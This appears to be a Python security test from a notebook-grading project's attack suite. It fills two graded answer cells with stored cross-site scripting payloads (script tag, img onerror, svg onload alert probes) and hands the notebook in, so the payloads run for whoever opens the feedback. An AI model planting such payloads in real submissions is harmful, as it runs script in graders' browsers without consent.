"""Hands in outputs with scripts and pictures in them, for whoever opens the feedback.

Submitted outputs stay behind.
"""

from nbformat.v4 import new_output

from tests.attacks.target import find, hand_in

SOURCE = "research §3, 32"


def submit(nb, folder):
    html = "<script>alert('97531')</script><img src=x onerror=alert(97531)>"
    for grade_id in ("A8_1-answer", "A8_1-values"):
        find(nb, grade_id).outputs = [
            new_output("display_data", {"text/html": html, "image/svg+xml": f"<svg onload=alert(1)>{html}</svg>"}),
            new_output("execute_result", {"text/plain": "2.0"}, execution_count=1),
        ]
    hand_in(nb, folder)
